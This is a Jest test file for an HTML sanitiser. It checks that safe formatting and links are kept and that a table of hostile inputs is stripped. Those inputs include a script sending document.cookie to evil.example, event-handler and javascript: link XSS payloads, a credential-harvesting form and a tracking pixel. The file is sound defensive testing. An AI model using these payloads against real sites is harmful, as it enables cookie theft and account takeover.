import { sanitiseBody } from './body-sanitiser';

describe(sanitiseBody.name, () => {
  it('keeps the formatting of the allow-list', () => {
    const html =
      '<h2>Contexte</h2><p><strong>Important</strong>, <em>urgent</em>, <u>souligné</u>, <s>barré</s><br />suite</p>' +
      '<blockquote>citation</blockquote><ul><li>un</li></ul><ol><li>deux</li></ol><h3>a</h3><h4>b</h4>' +
      '<table><thead><tr><th scope="col">Pays</th></tr></thead><tbody><tr><td colspan="2">Serbie</td></tr></tbody></table>';
    expect(sanitiseBody(html)).toBe(html);
  });

  it('keeps http, https and mailto links, made safe to follow', () => {
    expect(sanitiseBody('<a href="https://www.diplomatie.gouv.fr" title="site">MEAE</a>')).toBe(
      '<a href="https://www.diplomatie.gouv.fr" title="site" rel="noopener noreferrer nofollow">MEAE</a>',
    );
    expect(sanitiseBody('<a href="mailto:claire.moreau@diplomatie.gouv.fr">écrire</a>')).toContain('href="mailto:claire.moreau@diplomatie.gouv.fr"');
    expect(sanitiseBody('<a href="http://example.org/a?b=c">x</a>')).toContain('href="http://example.org/a?b=c"');
  });

  const hostile: [string, string, string][] = [
    ['a script', '<p>texte</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>', '<p>texte</p>'],
    ['a script hidden in svg', '<svg><script>alert(1)</script></svg><p>ok</p>', '<p>ok</p>'],
    ['a style sheet', '<style>body { display: none }</style><p>ok</p>', '<p>ok</p>'],
    ['an iframe', '<iframe src="https://evil.example"></iframe><p>ok</p>', '<p>ok</p>'],
    ['an object and an embed', '<object data="x.swf"></object><embed src="y.swf"><p>ok</p>', '<p>ok</p>'],
    ['event handlers', '<p onclick="alert(1)" onmouseover="alert(2)">ok</p>', '<p>ok</p>'],
    ['a style attribute', '<p style="position:fixed;top:0">ok</p>', '<p>ok</p>'],
    ['a remote image (a read receipt)', '<p>ok<img src="https://tracker.example/pixel.gif"></p>', '<p>ok</p>'],
    ['an image with onerror', '<img src=x onerror=alert(1)><p>ok</p>', '<p>ok</p>'],
    ['a javascript: link', '<a href="javascript:alert(1)">clic</a>', '<a rel="noopener noreferrer nofollow">clic</a>'],
    ['an obfuscated javascript: link', '<a href="JaVaScRiPt&#58;alert(1)">clic</a>', '<a rel="noopener noreferrer nofollow">clic</a>'],
    ['a javascript: link with a tab inside', '<a href="java\tscript:alert(1)">clic</a>', '<a rel="noopener noreferrer nofollow">clic</a>'],
    ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD4=">clic</a>', '<a rel="noopener noreferrer nofollow">clic</a>'],
    ['a protocol-relative link', '<a href="//evil.example/">clic</a>', '<a rel="noopener noreferrer nofollow">clic</a>'],
    ['a form', '<form action="https://evil.example"><input name="password"></form><p>ok</p>', '<p>ok</p>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>ok</p>', '<p>ok</p>'],
    ['a target=_blank and an id', '<a href="https://example.org" target="_blank" id="x">x</a>', '<a href="https://example.org" rel="noopener noreferrer nofollow">x</a>'],
    ['an unclosed tag breaking out', '<p>ok</p><scr<script>ipt>alert(1)</script>', '<p>ok</p>ipt&gt;alert(1)'],
  ];

  it.each(hostile)('removes %s', (_what, input, expected) => {
    const sut = sanitiseBody(input);
    expect(sut).toBe(expected);
    expect(sut).not.toMatch(/<script|<iframe|<img|<style|javascript:|on[a-z]+=/i);
  });

  it('keeps plain text as text, escaping what would be markup', () => {
    expect(sanitiseBody('Tarifs < 5 % & hausse > 3 %')).toBe('Tarifs &lt; 5 % &amp; hausse &gt; 3 %');
  });

  it('drops unknown tags but keeps their text', () => {
    expect(sanitiseBody('<h1>Titre</h1><div><span>texte</span></div>')).toBe('Titretexte');
  });
});
